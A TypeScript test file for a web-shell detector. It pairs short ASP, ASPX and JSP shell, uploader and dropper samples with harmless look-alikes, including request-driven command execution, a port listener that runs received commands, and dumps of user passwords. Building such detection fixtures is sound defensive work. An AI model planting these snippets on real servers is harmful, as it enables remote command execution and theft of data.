import { beforeAll, describe, expect, test } from 'vitest'
import { testGrammars } from '../../../../../test/grammars.ts'
import { analyse } from '../analyse.ts'
import { decodeScript } from '../asp/script-encoder.ts'
import type { Grammars } from '../syntax.ts'

let grammars: Grammars
beforeAll(async () => {
  grammars = await testGrammars()
})

const HITS = ['web-shell', 'uploader', 'dropper']

function isHit(path: string, text: string): boolean {
  return HITS.includes(
    analyse({ path, text, bytes: Uint8Array.from(text, letter => letter.charCodeAt(0) & 255) }, grammars).verdict,
  )
}

const TEXT = `<p>${'text for readers '.repeat(60)}</p>\n`
/** Text nobody can read, which spells nothing. */
const packed = (length: number) => 'Qk5'.repeat(Math.ceil(length / 3)).slice(0, length)

/** One thing a page does, and what looks like it. Nothing here reaches anything. */
const PAIRS: readonly (readonly [what: string, path: string, shell: string, twin: string])[] = [
  [
    'an order kept in a dictionary',
    'a.asp',
    `${TEXT}<%Set d=Server.CreateObject("Scripting.Dictionary")\nSession("p")=Request.Form("p")\nd.Add "k",Session("p")\nExecute(d("k"))%>`,
    `${TEXT}<%Set d=Server.CreateObject("Scripting.Dictionary")\nd.Add "k","x=1"\nd.Add "m",Request.Form("p")\nExecute(d("k"))%>`,
  ],
  [
    'letters taken apart, changed and put together',
    'a.asp',
    `${TEXT}<%Function u(c)\nFor i=1 To Len(c)\nu=u&Chr(Asc(Mid(c,i,1)) Xor 7)\nNext\nEnd Function\nr=u(Request("p"))\nExecute r%>`,
    `${TEXT}<%c=Request("p")\nn=0\nFor i=1 To Len(c)\nn=n+Asc(Mid(c,i,1))\nNext\nResponse.Write n%>`,
  ],
  [
    'an upload taken apart by the page, and put where it says',
    'a.asp',
    '<%Function B(r)\nSet u=CreateObject("Scripting.Dictionary")\nu.Add "Value",G(MidB(r,1,9))\nQ.Add G(MidB(r,9,9)),u\nEnd Function\nFunction G(s)\nFor i=1 To LenB(s)\nG=G&Chr(AscB(MidB(s,i,1)))\nNext\nEnd Function\nSet Q=CreateObject("Scripting.Dictionary")\nB(Request.BinaryRead(99))\nSet f=Server.CreateObject("Scripting.FileSystemObject")\nSet o=f.CreateTextFile(Q.Item("path").Item("Value") & "a")\no.Write Q.Item("f").Item("Value")%>',
    '<%Class Upload\nPublic Q\nFunction G(s)\nFor i=1 To LenB(s)\nG=G&Chr(AscB(MidB(s,i,1)))\nNext\nEnd Function\nSub Save(folder)\nSet f=Server.CreateObject("Scripting.FileSystemObject")\nSet o=f.CreateTextFile(folder & G(MidB(Request.BinaryRead(99),1,9)))\no.Write G(Request.BinaryRead(99))\nEnd Sub\nEnd Class%>',
  ],
  [
    'a shell told by an object whose making is lost',
    'a.asp',
    '<%s=Request.Form("c")\nIf s<>"" Then\nCall o.Run("cmd.exe /c " & s & " > c:\\t.txt",0,True)\nEnd If%>',
    '<%s=Request.Form("c")\nIf s<>"" Then\nCall o.Run("report " & s,0,True)\nEnd If%>',
  ],
  [
    'a template written to a file',
    'a.asp',
    '<%Set t=Server.CreateObject("MSWC.Tools")\nt.ProcessForm Request.Form("to"),Request.Form("from")%>',
    '<%Set t=Server.CreateObject("MSWC.Tools")\nt.ProcessForm "orders.txt","orders.tpl"%>',
  ],
  [
    'rights of a file the request names',
    'a.asp',
    '<%Set f=Server.CreateObject("Scripting.FileSystemObject").GetFile(Request.Form("f"))\nf.Attributes=34%>',
    '<%Set f=Server.CreateObject("Scripting.FileSystemObject").GetFile(Server.MapPath("list.txt"))\nf.Attributes=32\nResponse.Write Request.Form("f")%>',
  ],
  [
    'time of a file the request names',
    'a.asp',
    '<%Set s=Server.CreateObject("Shell.Application").NameSpace(Server.MapPath("."))\nSet i=s.ParseName(Request.Form("f"))\ni.ModifyDate=Request.Form("t")%>',
    '<%Set s=Server.CreateObject("Shell.Application").NameSpace(Server.MapPath("."))\nSet i=s.ParseName("list.txt")\nResponse.Write i.ModifyDate & Request.Form("t")%>',
  ],
  ['nothing but a text taken in', 'a.asp', '<!--#include file="notes.txt"-->', `<!--#include file="notes.txt"-->${TEXT}`],
  [
    'a value that breaks out of a text',
    'a.asp',
    '9":eval request("k")\'',
    'Conn = "Provider=x"\n\' reads what the request asks for',
  ],
  [
    'a name and its bracket in two lines',
    'a.asp',
    '<%Set f=CreateObject("Scripting.FileSystemObject")\nSet t=f.CreateTextFile(Server.MapPath(Request.ServerVariables\n\n("SCRIPT_NAME")),True)\nt.Write Request("d")%>',
    '<%Set f=CreateObject("Scripting.FileSystemObject")\nSet t=f.CreateTextFile(Server.MapPath\n\n("guests.txt"),True)\nt.Write Request("d")%>',
  ],
  [
    'a page that is a wrapper of packed text',
    'a.asp',
    `<%Set c=Server.CreateObject("Vendor.Coding")\n${`c.Decode("${packed(520)}")\n`.repeat(20)}%>`,
    `<%Set c=Server.CreateObject("Vendor.Coding")\nc.Decode("${packed(520)}")%>${TEXT.repeat(9)}`,
  ],
  [
    'a title, a field for an order, and hardly anything left between',
    'a.asp',
    '<title>Command shell</title><%@ Language=VBScript %><form method="post"><input name=".CMD"><input type="submit"></form><%= w %>',
    '<title>Shell petrol stations</title><%@ Language=VBScript %><form method="post"><input name="town"><input type="submit"></form><%= w %>',
  ],
  [
    'any address fetched for who writes it into a field',
    'a.asp',
    '<form><input name="u"></form><%Set x=Server.CreateObject("MSXML2.XMLHTTP")\nx.Open "GET","http://" & Request("u"),False\nx.Send\nResponse.Write x.responseText%>',
    '<form><input name="q"></form><%Set x=Server.CreateObject("MSXML2.XMLHTTP")\nx.Open "GET","http://search.example/?q=" & Request("q"),False\nx.Send\nResponse.Write x.responseText%>',
  ],
  [
    'a whole table, however long it takes',
    'a.aspx',
    '<%@ Page Language="C#"%><script runat="server">void Page_Load(object s,EventArgs e){Server.ScriptTimeout = 2147483647;DataSet d=Q("SELECT * FROM [users]");for(int i=0;i<d.Tables[0].Columns.Count;i++)Response.Write(d.Tables[0].Rows[0][i]+"\\t");}</script>',
    '<%@ Page Language="C#"%><script runat="server">void Page_Load(object s,EventArgs e){Server.ScriptTimeout = 300;DataSet d=Q("SELECT * FROM [users]");for(int i=0;i<d.Tables[0].Columns.Count;i++)Response.Write(d.Tables[0].Rows[0][i]+"\\t");}</script>',
  ],
  [
    'a shell told what one function makes of an order',
    'a.aspx',
    `${TEXT}<%@ Page Language="C#"%><script runat="server">void Page_Load(object s,EventArgs e){var p=new System.Diagnostics.Process();p.StartInfo.FileName="cmd.exe";p.StartInfo.Arguments=Own.Made(Request["c"]);p.Start();}</script>`,
    `${TEXT}<%@ Page Language="C#"%><script runat="server">void Page_Load(object s,EventArgs e){var p=new System.Diagnostics.Process();p.StartInfo.FileName="convert.exe";p.StartInfo.Arguments=Own.Made(Request["c"]);p.Start();}</script>`,
  ],
  [
    'server, account and password of a database',
    'a.aspx',
    '<%@ Page Language="C#"%><script runat="server">void B(object s,EventArgs e){SqlConnection c=new SqlConnection();c.ConnectionString=String.Format("Server={0};uid={1};pwd={2}",txtServer.Text,txtUser.Text,txtPass.Text);c.Open();}</script>',
    '<%@ Page Language="C#"%><script runat="server">void B(object s,EventArgs e){SqlConnection c=new SqlConnection();c.ConnectionString=String.Format("Server=db.example;uid={0};pwd=x",txtUser.Text);c.Open();}</script>',
  ],
  [
    'a database one handler keeps and another asks',
    'a.aspx',
    '<%@ Page Language="C#"%><script runat="server">void A(object s,EventArgs e){SqlConnection c=new SqlConnection(ViewState["c"].ToString());new SqlCommand("sp_databases",c).ExecuteReader();}void B(object s,EventArgs e){ViewState["c"]=txtConnection.Text;}</script>',
    '<%@ Page Language="C#"%><script runat="server">void A(object s,EventArgs e){SqlConnection c=new SqlConnection(ViewState["c"].ToString());new SqlCommand("sp_databases",c).ExecuteReader();}void B(object s,EventArgs e){ViewState["c"]=Settings.Connection;}</script>',
  ],
  [
    'functions of Windows that start programs',
    'a.aspx',
    '<%@ Page Language="C#"%><script runat="server">[DllImport("kernel32.dll")]static extern uint WinExec(string c,uint n);void Page_Load(object s,EventArgs e){WinExec(Request["c"],0);}</script>',
    '<%@ Page Language="C#"%><script runat="server">[DllImport("kernel32.dll")]static extern uint GetTickCount();void Page_Load(object s,EventArgs e){Response.Write(GetTickCount());}</script>',
  ],
  [
    'a style sheet with script of its own',
    'a.aspx',
    '<%@ Page Language="C#"%><%XmlDocument d=new XmlDocument();d.LoadXml("<xsl:stylesheet><msxsl:script>function f(){}</msxsl:script></xsl:stylesheet>");XslCompiledTransform t=new XslCompiledTransform();t.Load(d);%>',
    '<%@ Page Language="C#"%><%XmlDocument d=new XmlDocument();d.LoadXml("<xsl:stylesheet><xsl:template match=\'/\'/></xsl:stylesheet>");XslCompiledTransform t=new XslCompiledTransform();t.Load(d);%>',
  ],
  [
    'a type that is told by its name what to start',
    'a.aspx',
    '<%@ Page Language="C#"%><%string[] a={"cmd","/c "+Request.Headers["X"]};typeof(System.Diagnostics.Process).InvokeMember("Start",f,null,null,a);%>',
    '<%@ Page Language="C#"%><%string[] a={"a",Request.Headers["X"]};typeof(System.String).InvokeMember("Concat",f,null,null,a);%>',
  ],
  [
    'script of a file that is none',
    'a.aspx',
    '<%@ Page Language="C#"%><script runat="server" src="list.txt"></script>',
    '<%@ Page Language="C#"%><script src="list.txt"></script>',
  ],
  [
    'letters of the code as long escapes',
    'a.aspx',
    '<%@ Page Language="C#"%><%System.\\U00000044iagnostics.\\U00000050rocess.Start(Request["c"]);%>',
    '<%@ Page Language="C#"%><%Response.Write("\\U00000044"+Request["c"].Length);%>',
  ],
  [
    'a program made by markup',
    'a.jsp',
    '<jsp:useBean id="p" class="java.lang.ProcessBuilder"/><jsp:setProperty name="p" property="command" value="${param.c}"/>${p.start()}',
    '<jsp:useBean id="p" class="com.example.Order"/><jsp:setProperty name="p" property="number" value="${param.c}"/>${p.total()}',
  ],
  [
    'a database by markup',
    'a.jsp',
    '<sql:setDataSource var="d" driver="${param.d}" url="${param.u}"/><sql:query dataSource="${d}" sql="${param.q}" var="r"/>',
    '<sql:setDataSource var="d" dataSource="jdbc/shop"/><sql:query dataSource="${d}" sql="select * from a where id=?" var="r"><sql:param value="${param.q}"/></sql:query>',
  ],
  [
    'code cut by sections of character data',
    'a.jspx',
    '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet><![CDATA[Runtime.getRuntime().ex]]><![CDATA[ec(request.getParameter("c"));]]></jsp:scriptlet></jsp:root>',
    '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet><![CDATA[out.pri]]><![CDATA[nt(request.getParameter("c"));]]></jsp:scriptlet></jsp:root>',
  ],
  [
    'a source file that is written and compiled',
    'a.jsp',
    '<%java.io.FileWriter w=new java.io.FileWriter("/tmp/E.java");w.write(request.getParameter("s"));w.close();javax.tools.ToolProvider.getSystemJavaCompiler().run(null,null,null,"/tmp/E.java");%>',
    '<%java.io.FileWriter w=new java.io.FileWriter("/tmp/note.txt");w.write(request.getParameter("s"));w.close();out.print(javax.tools.ToolProvider.getSystemJavaCompiler());%>',
  ],
  [
    'a stream of one order',
    'a.jsp',
    '<%java.util.stream.Stream.of(request.getParameter("c")).forEach(c->{try{Runtime.getRuntime().exec(c);}catch(Exception e){}});%>',
    '<%java.util.stream.Stream.of(request.getParameter("c")).forEach(c->{try{out.print(c.length());}catch(Exception e){}});%>',
  ],
  [
    'orders of who calls a port',
    'a.jsp',
    '<%java.net.ServerSocket s=new java.net.ServerSocket(9999);java.net.Socket c=s.accept();Runtime.getRuntime().exec(new java.io.BufferedReader(new java.io.InputStreamReader(c.getInputStream())).readLine());%>',
    '<%java.net.ServerSocket s=new java.net.ServerSocket(9999);out.print(s.getLocalPort());%>',
  ],
  [
    'a search for the machines around',
    'a.jsp',
    '<%String n=java.net.InetAddress.getLocalHost().getHostAddress();for(int i=1;i<=254;i++){final String u="http://"+n.substring(0,n.lastIndexOf("."))+"."+i;new Thread(){public void run(){try{new java.net.URL(u).openConnection().getInputStream();}catch(Exception e){}}}.start();}%>',
    '<%String n=java.net.InetAddress.getLocalHost().getHostAddress();for(int i=1;i<=254;i++)out.print(n);new java.net.URL("http://news.example/").openConnection();%>',
  ],
  [
    'a backslash that was lost',
    'a.jsp',
    '<% if(request.getParameter("f")!=null)(new java.io.FileOutputStream(application.getRealPath("\\")+request.getParameter("f"))).write(request.getParameter("t").getBytes()); %>',
    '<% if(request.getParameter("f")!=null)out.print(application.getRealPath("\\")+request.getParameter("f")); %>',
  ],
  [
    'rows of a database for a program',
    'a.jsp',
    '<%@page import="java.sql.*"%><%Connection c=DriverManager.getConnection("jdbc:mysql://127.0.0.1/shop","u","p");ResultSet r=c.createStatement().executeQuery("select name,word from users");while(r.next())out.println(r.getString(1)+"-->"+r.getString(2));%>',
    '<%@page import="java.sql.*"%><%Connection c=DriverManager.getConnection("jdbc:mysql://127.0.0.1/shop","u","p");ResultSet r=c.createStatement().executeQuery("select name from goods");%><table><%while(r.next())out.println("<tr><td>"+r.getString(1)+"</td></tr>");%></table>',
  ],
  [
    'any name of the naming service',
    'a.jsp',
    '<%@page import="javax.naming.*"%><%Context c=new InitialContext();c.lookup(request.getParameter("n"));%>',
    '<%@page import="javax.naming.*"%><%Context c=new InitialContext();Context e=(Context)c.lookup("java:comp/env");out.print(e.lookup(request.getParameter("n")));%>',
  ],
  [
    'expressions of the visitor',
    'a.jsp',
    '<%@page import="jakarta.el.*"%><%ExpressionFactory f=ExpressionFactory.newInstance();f.createValueExpression(pageContext.getELContext(),request.getParameter("e"),String.class);%>',
    '<%@page import="jakarta.el.*"%><%ExpressionFactory f=ExpressionFactory.newInstance();for(String e:list)f.createValueExpression(pageContext.getELContext(),e,String.class);f.createValueExpression(made,String.class);%>',
  ],
]

describe('what a page is there for, and what looks like it', () => {
  test.each(PAIRS)('%s', (_what, path, shell, twin) => {
    expect([isHit(path, shell), isHit(path, twin)]).toEqual([true, false])
  })
})

test('quotes of a word processor all through the code', () => {
  const code = 'Language=”Jscript” %><%var p=”ev”+”al(Req”+”uest.Item[‘x’],”;eval(Request.Item[”x”],”un”+”safe”);'
  expect(isHit('a.aspx', `<%@ Page ${code}%>`)).toBe(true)
  expect(isHit('a.aspx', '<%@ Page Language="C#" %>Said: ”eval” and “Request” and “a” and “b” and “c” and “d”')).toBe(false)
})

const LETTERS = ['\t', ...Array.from({ length: 95 }, (_, index) => String.fromCharCode(index + 33))]
const block = (body: string, length = body.length) =>
  `<%#@~^${btoa(`${String.fromCharCode(length)}\0\0\0`).slice(0, 6)}==${body}AAAAAA==^#~@%>`

/** The text as the Script Encoder writes it: letter by letter, whatever is read as it. */
function encoded(plain: string): string {
  let body = ''
  for (const [index] of [...plain].entries())
    body +=
      LETTERS.find(letter => decodeScript(block(body + letter)) === `<%${plain.slice(0, index + 1)}%>`) ??
      expect.unreachable(`nothing is read as ${plain.slice(0, index + 1)}`)
  return body
}

test('encoded script whose tabs became blanks', () => {
  const body = encoded('nnnnnnnn eeeeeee ooooooo = request("x")')
  expect([body.includes('\t'), body.includes('\x7f')]).toEqual([true, true])
  const edited = body.replaceAll('\x7f', ' ').replaceAll('\t', '   ')
  expect(decodeScript(block(edited, body.length))).toBe('<%nnnnnnnn eeeeeee ooooooo = request("x")%>')
})
